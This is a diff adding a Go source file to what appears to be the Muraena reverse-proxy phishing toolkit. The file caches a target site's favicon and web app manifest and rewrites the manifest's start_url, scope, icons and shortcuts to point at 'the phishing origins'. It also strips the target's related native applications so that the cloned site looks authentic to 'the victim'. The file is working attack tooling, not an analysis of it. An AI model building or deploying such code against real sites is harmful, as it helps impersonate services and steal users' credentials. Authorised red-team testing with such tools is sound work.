@@ -0,0 +1,253 @@
+package proxy
+
+import (
+	"bytes"
+	"encoding/json"
+	"io/ioutil"
+	"mime"
+	"net/http"
+	"os"
+	"path"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// maxBrandAssetSize is the size above which a brand asset is not cached
+const maxBrandAssetSize = 1 << 20
+
+// brandAsset is a cached brand asset of the target
+type brandAsset struct {
+	contentType string
+	body        []byte
+}
+
+// brandAssets serves the brand assets of the target, such as the favicon and the web app manifest,
+// from a local cache: they are fetched once, or provided in the cache directory
+type brandAssets struct {
+	paths     map[string]bool
+	directory string
+
+	mu      sync.RWMutex
+	entries map[string]*brandAsset
+}
+
+// brand is the local cache of the brand assets, nil if disabled
+var brand *brandAssets
+
+// newBrandAssets returns the brand assets cache defined in the configuration, nil if disabled
+func newBrandAssets(sess *session.Session) *brandAssets {
+	config := sess.Config.Proxy.Brand
+	if !config.Enabled {
+		return nil
+	}
+
+	b := &brandAssets{
+		paths:     make(map[string]bool),
+		directory: config.Directory,
+		entries:   make(map[string]*brandAsset),
+	}
+	for _, p := range config.Paths {
+		b.paths[p] = true
+	}
+
+	return b
+}
+
+// Serves checks if the request fetches a brand asset
+func (b *brandAssets) Serves(req *http.Request) bool {
+	if b == nil || (req.Method != http.MethodGet && req.Method != http.MethodHead) {
+		return false
+	}
+	return b.paths[req.URL.Path]
+}
+
+// file returns the path of the asset in the cache directory, empty if there is no cache directory
+func (b *brandAssets) file(host, urlPath string) string {
+	if b.directory == "" {
+		return ""
+	}
+	return filepath.Join(b.directory, filepath.Base(host), filepath.FromSlash(path.Clean("/"+urlPath)))
+}
+
+// get returns the asset from the memory cache or from the cache directory
+func (b *brandAssets) get(host, urlPath string) *brandAsset {
+	key := host + urlPath
+
+	b.mu.RLock()
+	asset, ok := b.entries[key]
+	b.mu.RUnlock()
+	if ok {
+		return asset
+	}
+
+	file := b.file(host, urlPath)
+	if file == "" {
+		return nil
+	}
+
+	body, err := ioutil.ReadFile(file)
+	if err != nil {
+		return nil
+	}
+
+	contentType := mime.TypeByExtension(filepath.Ext(file))
+	if contentType == "" {
+		contentType = http.DetectContentType(body)
+	}
+	asset = &brandAsset{contentType: contentType, body: body}
+
+	b.mu.Lock()
+	b.entries[key] = asset
+	b.mu.Unlock()
+	return asset
+}
+
+// store adds the asset to the memory cache and to the cache directory
+func (b *brandAssets) store(host, urlPath string, asset *brandAsset) {
+	b.mu.Lock()
+	b.entries[host+urlPath] = asset
+	b.mu.Unlock()
+
+	file := b.file(host, urlPath)
+	if file == "" {
+		return
+	}
+
+	if err := os.MkdirAll(filepath.Dir(file), 0700); err != nil {
+		log.Warning("Error caching the brand asset %s: %s", urlPath, err)
+		return
+	}
+	if err := ioutil.WriteFile(file, asset.body, 0600); err != nil {
+		log.Warning("Error caching the brand asset %s: %s", urlPath, err)
+	}
+}
+
+// brandTransport serves the brand assets from the local cache, fetching them once from the target
+type brandTransport struct {
+	assets   *brandAssets
+	replacer *Replacer
+	next     http.RoundTripper
+}
+
+// RoundTrip implements the http.RoundTripper interface
+func (t *brandTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if !t.assets.Serves(req) {
+		return t.next.RoundTrip(req)
+	}
+
+	host := req.URL.Host
+	if asset := t.assets.get(host, req.URL.Path); asset != nil {
+		return t.response(req, asset), nil
+	}
+
+	// The conditional requests of the victim would leave nothing to cache
+	fetch := req.Clone(req.Context())
+	fetch.Method = http.MethodGet
+	for _, h := range []string{"If-None-Match", "If-Modified-Since", "Range", "Cookie"} {
+		fetch.Header.Del(h)
+	}
+
+	resp, err := t.next.RoundTrip(fetch)
+	if err != nil {
+		return nil, err
+	}
+	if resp.StatusCode != http.StatusOK || resp.ContentLength > maxBrandAssetSize {
+		return resp, nil
+	}
+
+	body, err := (&Response{Response: resp}).Unpack()
+	if err != nil {
+		return nil, err
+	}
+	if len(body) > maxBrandAssetSize {
+		resp.Header.Del("Content-Encoding")
+		resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
+		resp.ContentLength = int64(len(body))
+		resp.Body = ioutil.NopCloser(bytes.NewReader(body))
+		return resp, nil
+	}
+
+	asset := &brandAsset{contentType: resp.Header.Get("Content-Type"), body: body}
+	t.assets.store(host, req.URL.Path, asset)
+	log.Debug("Cached the brand asset %s%s", host, req.URL.Path)
+
+	return t.response(req, asset), nil
+}
+
+// response returns the cached asset, the manifests being rewritten for the phishing origins
+func (t *brandTransport) response(req *http.Request, asset *brandAsset) *http.Response {
+	body := asset.body
+	if isManifest(req.URL.Path, asset.contentType) {
+		body = rewriteManifest(body, func(value string) string {
+			return t.replacer.Transform(value, false, t.replacer.Base64)
+		})
+	}
+
+	header := http.Header{}
+	header.Set("Content-Type", asset.contentType)
+	header.Set("Content-Length", strconv.Itoa(len(body)))
+	header.Set("Cache-Control", "public, max-age=86400")
+
+	return &http.Response{
+		Status:        "200 OK",
+		StatusCode:    http.StatusOK,
+		Proto:         "HTTP/1.1",
+		ProtoMajor:    1,
+		ProtoMinor:    1,
+		Header:        header,
+		Body:          ioutil.NopCloser(bytes.NewReader(body)),
+		ContentLength: int64(len(body)),
+		Request:       req,
+	}
+}
+
+// isManifest checks if the asset is a web app manifest
+func isManifest(urlPath, contentType string) bool {
+	return strings.HasSuffix(urlPath, ".webmanifest") || strings.HasSuffix(urlPath, "manifest.json") ||
+		strings.HasPrefix(strings.ToLower(contentType), "application/manifest+json")
+}
+
+// rewriteManifest rewrites the URLs of the web app manifest for the phishing origins:
+// the start_url, the scope, the id and the URLs of the icons, screenshots and shortcuts.
+// The related native applications of the target are removed, as browsers offer to install them instead.
+func rewriteManifest(body []byte, transform func(string) string) []byte {
+	var manifest map[string]interface{}
+	if err := json.Unmarshal(body, &manifest); err != nil {
+		return body
+	}
+
+	for _, key := range []string{"start_url", "scope", "id"} {
+		if value, ok := manifest[key].(string); ok {
+			manifest[key] = transform(value)
+		}
+	}
+
+	for _, key := range []string{"icons", "screenshots", "shortcuts"} {
+		items, _ := manifest[key].([]interface{})
+		for _, item := range items {
+			entry, ok := item.(map[string]interface{})
+			if !ok {
+				continue
+			}
+			for _, field := range []string{"src", "url"} {
+				if value, ok := entry[field].(string); ok {
+					entry[field] = transform(value)
+				}
+			}
+		}
+	}
+
+	delete(manifest, "related_applications")
+	delete(manifest, "prefer_related_applications")
+
+	rewritten, err := json.MarshalIndent(manifest, "", "  ")
+	if err != nil {
+		return body
+	}
+	return rewritten
+}